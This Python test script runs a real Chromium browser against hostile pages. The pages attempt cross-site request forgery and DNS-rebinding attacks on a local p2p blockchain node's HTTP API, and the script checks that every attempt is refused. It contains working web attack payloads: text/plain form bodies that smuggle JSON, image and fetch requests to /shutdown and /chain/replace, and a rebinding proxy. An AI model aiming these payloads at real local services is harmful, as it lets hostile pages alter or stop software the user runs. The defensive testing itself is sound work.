#!/usr/bin/env python3
"""A real browser opens hostile pages while a node runs on the same machine. The pages come from other origins
and try everything that a page may send anywhere: images, forms, fetches, frames, scripts, redirects, and a host
name that is rebound to 127.0.0.1. Nothing may change and nothing may be read; what the browser's user types
and what programs send must work. Standard library and Chromium only.

    tests/browser.py target/debug/p2pnode

The same requests are aimed at a server without gates as well: what does not reach that one proves nothing.
"""

import http.client
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import urllib.error
import urllib.request

import chromium

DEADLINE = 60  # seconds; far more than a page takes on a busy machine
EVIL = "evil.example"

# Runs in the page. TARGETS are origins that are not the page's. Each attack comes to what it could read: "" is
# nothing. A tag is done when it loads or fails; whatever the browser never answers is given up, not waited for.
PAGE = """<!doctype html><title>hostile</title><body><script>
const targets = TARGETS, own = OWN, results = {};
const soon = promise => Promise.race([promise, new Promise(done => setTimeout(done, 5000, ""))]);
const tag = (name, set, read = () => "") => new Promise(done => {
  const element = document.createElement(name);
  element.onload = () => done(read(element));
  element.onerror = () => done("");
  set(element);
  document.body.append(element);
});
const inside = frame => {
  try { return frame.contentDocument ? frame.contentDocument.body.innerText : ""; } catch { return ""; }
};
const form = (to, method, type, fields, sandbox) => tag("iframe", frame => {
  const inputs = Object.entries(fields).map(([name, value]) =>
    `<input name='${name}' value='${value.replaceAll("'", "&#39;")}'>`).join("");
  if (sandbox) frame.sandbox = "allow-scripts allow-forms";
  // A form of the frame's own: it goes to the target when the frame is there.
  frame.srcdoc = `<form action="${to}" method="${method}" enctype="${type}">${inputs}</form>
    <script>document.forms[0].submit()</` + `script>`;
});
const text = (url, options) => fetch(url, options).then(got => got.text(), () => "");
const post = (type, body, mode) => ({method: "POST", mode, headers: {"Content-Type": type}, body});
const attacks = to => ({
  "image /mine": () => tag("img", e => e.src = to + "/mine", e => e.naturalWidth || ""),
  "image /shutdown": () => tag("img", e => e.src = to + "/shutdown"),
  "image /block/new": () => tag("img", e => e.src = to + "/block/new"),
  "image without referrer": () => tag("img", e => { e.referrerPolicy = "no-referrer"; e.src = to + "/mine?2"; }),
  "image by redirect": () => tag("img", e => e.src = "/redirect?" + encodeURIComponent(to + "/shutdown?2")),
  "form urlencoded /nodes/register": () => form(to + "/nodes/register", "POST", "application/x-www-form-urlencoded",
    {nodes: "a"}),
  "form text /nodes/register": () => form(to + "/nodes/register?2", "POST", "text/plain",
    {'{"nodes": ["abababababababababababababababab"], "addresses": ["127.0.0.1:1"], "x": "': '"}'}),
  "form urlencoded /transactions": () => form(to + "/transactions", "POST", "application/x-www-form-urlencoded",
    {content: "hostile"}),
  "form text /transactions": () => form(to + "/transactions?2", "POST", "text/plain", {'{"content": "': '"}'}),
  "form from a sandbox": () => form(to + "/mine?3", "POST", "text/plain", {a: "b"}, true),
  "form GET": () => form(to + "/shutdown", "GET", "text/plain", {a: "b"}),
  "fetch no-cors /chain/replace": () => text(to + "/chain/replace", post("text/plain", "[]", "no-cors")),
  "fetch no-cors /mine": () => text(to + "/mine?4", {mode: "no-cors", credentials: "include"}),
  "fetch cors /chain": () => text(to + "/chain"),
  "fetch cors with a preflight": () => text(to + "/transactions?3", post("application/json", "{}", "cors")),
  "beacon": async () => { navigator.sendBeacon(to + "/mine?5", "x"); return ""; },
  "frame /chain": () => tag("iframe", e => e.src = to + "/chain?2", inside),
  "script /chain": () => tag("script", e => e.src = to + "/chain?3", () => "ran"),
  "style /chain": () => tag("link", e => { e.rel = "stylesheet"; e.href = to + "/chain?4"; }),
  "object /chain": () => tag("object", e => e.data = to + "/chain?5", inside),
  "events": () => new Promise(done => {
    const events = new EventSource(to + "/chain?6");
    events.onmessage = event => done(event.data);
    events.onerror = () => { events.close(); done(""); };
  }),
  "socket": () => new Promise(done => {
    const socket = new WebSocket(to.replace("http", "ws") + "/mine?6");
    socket.onmessage = event => done(event.data);
    socket.onopen = () => done("open");
    socket.onerror = () => done("");
  }),
});
// From a rebound name the node's paths are the page's own: the browser would let it read all of them.
const rebound = {
  "read /chain": () => text("/chain"), "read /node/id": () => text("/node/id"), "mine": () => text("/mine"),
  "stop": () => text("/shutdown"), "register": () => text("/nodes/register", post("application/json", "{}")),
  "image": () => tag("img", e => e.src = "/mine?2"), "frame": () => tag("iframe", e => e.src = "/chain", inside),
};
(async () => {
  const all = own ? [["", rebound]] : targets.map(to => [to, attacks(to)]);
  await Promise.all(all.flatMap(([to, attacks]) => Object.entries(attacks).map(async ([name, run]) => {
    let got;
    try { got = await soon(run()); } catch { got = ""; }
    results[`${name} ${to}`] = String(got ?? "");
  })));
  await fetch(DONE, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
</script>"""


def fail(*what):
    sys.exit("error: " + " ".join(map(str, what)))


class Server(http.server.ThreadingHTTPServer):
    """A server of this script; `seen` are the paths that it was asked for."""

    daemon_threads = True

    def __init__(self, handler):
        super().__init__(("127.0.0.1", 0), handler)
        self.port = self.server_address[1]
        self.seen = set()
        self.page = {}
        self.results = {}
        self.done = threading.Condition()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_):
        pass  # a browser that closes early is no news


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def answer(self, status, body="", headers=()):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))


class Naive(Handler):
    """A server without gates: it takes what comes."""

    def do_GET(self):
        self.body()
        self.server.seen.add(f"{self.headers['Host'].split(':')[0]} {self.command} {self.path.split('=')[0]}")
        self.answer(200, '"taken"')

    do_POST = do_OPTIONS = do_GET


class Hostile(Handler):
    """The attacker's own server: its pages, its redirect, and where the pages say what they could read."""

    def do_GET(self):
        path, _, query = self.path.partition("?")
        if path == "/redirect":
            return self.answer(302, headers=[("Location", urllib.request.unquote(query))])
        page = self.server.page.get(path)
        self.answer(200 if page else 404, page or "", [("Content-Type", "text/html"), ("Connection", "close")])

    def do_POST(self):
        with self.server.done:
            self.server.results[self.path] = json.loads(self.body())
            self.server.done.notify_all()
        self.answer(200)


def rebinding(page, node):
    """Where the name leads: its first caller gets the page, and by then it leads to the node."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve(client):
        head = b""
        while b"\r\n\r\n" not in head and (data := client.recv(65536)):
            head += data
        if head.startswith(b"GET /page "):
            body = page.encode()
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                           b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
            return client.close()
        with socket.create_connection(("127.0.0.1", node)) as upstream:
            upstream.sendall(head)
            threading.Thread(target=chromium.copy, args=(client, upstream), daemon=True).start()
            chromium.copy(upstream, client)
        client.close()

    def accept():
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


def start(program, folder, *flags):
    """A node: its process and its HTTP port, from the line that says it is ready."""
    command = [program, "--ephemeral", "--network", "regtest", "--listen", "127.0.0.1:0", "--log", f"{folder}/node.log", *flags]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=folder)
    port = None
    for line in process.stdout:
        if line.startswith("HTTP "):
            port = int(line.strip().rpartition(":")[2])
        if "Ctrl-C" in line:
            return process, port
    fail("the node did not start")


def ask(port, path, method="GET", body=None, headers=None):
    """What a program that is no browser gets: status and JSON."""
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", body, headers or {}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=DEADLINE) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)


def state(port):
    """What no page may change."""
    chain, me, pool = (ask(port, path)[1] for path in ("/chain", "/node/id", "/transactions"))
    return {"chain": chain, "known": me["nodes"], "waiting": pool["length"]}


def browser(program, folder, *flags):
    return chromium.command(program, tempfile.mkdtemp(dir=folder), "--enable-logging=stderr", *flags)


def visit(program, folder, hostile, rules, url):
    """Opens a hostile page and waits for what it says that it could read."""
    command = browser(program, folder, f"--host-resolver-rules={rules}", "--remote-debugging-port=0", url)
    with open(f"{folder}/browser.log", "a") as log:
        process = subprocess.Popen(command, stdout=log, stderr=log)
    try:
        key = "/done?" + url
        with hostile.done:
            if not hostile.done.wait_for(lambda: key in hostile.results, timeout=DEADLINE):
                fail(f"the page {url} did not come to its end; see {folder}/browser.log")
            return hostile.results[key]
    finally:
        process.terminate()
        process.wait(timeout=DEADLINE)


def refusals(folder):
    """Why the node refused requests, by its log."""
    with open(f"{folder}/node.log") as log:
        return [line.partition("why=")[2].strip() for line in log if "request was refused" in line]


def main(program, browser_program):
    folder = tempfile.mkdtemp()
    node, port = start(program, folder, "--http", "0")
    keep = False
    try:
        hostile, naive = Server(Hostile), Server(Naive)
        assert ask(port, "/mine") == (200, "Mined"), "a program without ceremony mines"
        before = state(port)
        assert before["chain"]["length"] == 2, before

        def page(url, own=False):
            ports = (port, naive.port)
            targets = [f"http://{host}:{p}" for p in ports for host in ("127.0.0.1", "0.0.0.0", "localhost")]
            done = f"http://127.0.0.1:{hostile.port}/done?{url}"
            values = {"TARGETS": targets, "OWN": own, "DONE": done}
            text = PAGE
            for name, value in values.items():
                text = text.replace(name, json.dumps(value))
            return text

        rebound = f"http://{EVIL}:{port}/page"
        front = rebinding(page(rebound, own=True), port)
        rules = f"MAP {EVIL}:{port} 127.0.0.1:{front}, MAP {EVIL} 127.0.0.1"
        urls = [f"http://{host}:{hostile.port}/{at}" for at, host in enumerate((EVIL, "127.0.0.1", "0.0.0.0"))]
        for at, url in enumerate(urls):
            hostile.page[f"/{at}"] = page(url)
        for url in (*urls, rebound):
            known = len(refusals(folder))
            results = visit(browser_program, folder, hostile, rules, url)
            # From a rebound name everything may be read; so what was read must be refusals, and no more.
            read = {name: text for name, text in results.items() if text and f":{naive.port}" not in name}
            if url == rebound:
                assert len(results) == 7 and all(text for name, text in results.items() if "read" in name), results
                leaks = {name for name, text in read.items() if '"status":403' not in text}
            else:
                leaks = read
            if leaks or node.poll() is not None or state(port) != before:
                fail(f"{url}: read {leaks}, the node's exit {node.poll()}")
            why = refusals(folder)[known:]
            assert why, f"{url}: nothing reached the node"
            print(f"{url}: {len(results)} attempts, {len(why)} refused, nothing read, nothing changed")

        # The attempts are real: a server without gates is mined on, registered at and stopped.
        wanted = ["127.0.0.1 GET /mine", "127.0.0.1 GET /shutdown", "127.0.0.1 GET /block/new",
                  "127.0.0.1 GET /shutdown?2", "127.0.0.1 POST /nodes/register", "127.0.0.1 POST /nodes/register?2",
                  "127.0.0.1 POST /transactions", "127.0.0.1 POST /chain/replace", "127.0.0.1 GET /chain",
                  "localhost GET /mine"]
        missing = [what for what in wanted if what not in naive.seen]
        assert not missing, f"{missing} did not leave the browser; seen: {sorted(naive.seen)}"
        by_zero = any(what.startswith("0.0.0.0 ") for what in naive.seen)
        print(f"0.0.0.0 is {'reached from' if by_zero else 'blocked by'} this browser")
        parts = ["(Sec-Fetch-Site)", "(Origin)", "host that was asked for"]
        for part in parts + ["a browser must say"] * by_zero:
            assert any(part in why for why in refusals(folder)), f"no refusal by {part}"

        # What the user types works, and is a page's only way to a node that a page may not have.
        for url, expected in ((f"http://127.0.0.1:{port}/chain", '"length": 2'),
                              (f"http://localhost:{port}/node/id", '"network"')):
            shown = subprocess.run(browser(browser_program, folder, "--dump-dom", url), capture_output=True, text=True,
                                   timeout=DEADLINE).stdout
            assert expected in shown, f"{url} shows {shown}"
        assert ask(port, "/nodes/register", "POST", b'{"nodes": [], "addresses": []}')[0] == 201
        assert state(port) == before
        assert ask(port, "/shutdown") == (200, "Server shutting down...")
        assert node.wait(timeout=DEADLINE) == 0, node.returncode
        print("a browser's user and programs are served; foreign pages are not")
    except BaseException:
        keep = True
        raise
    finally:
        node.kill()
        node.wait()
        if keep:
            print(f"logs: {folder}", file=sys.stderr)
        else:
            shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        fail("usage: tests/browser.py P2PNODE")
    main(os.path.realpath(sys.argv[1]), chromium.find())
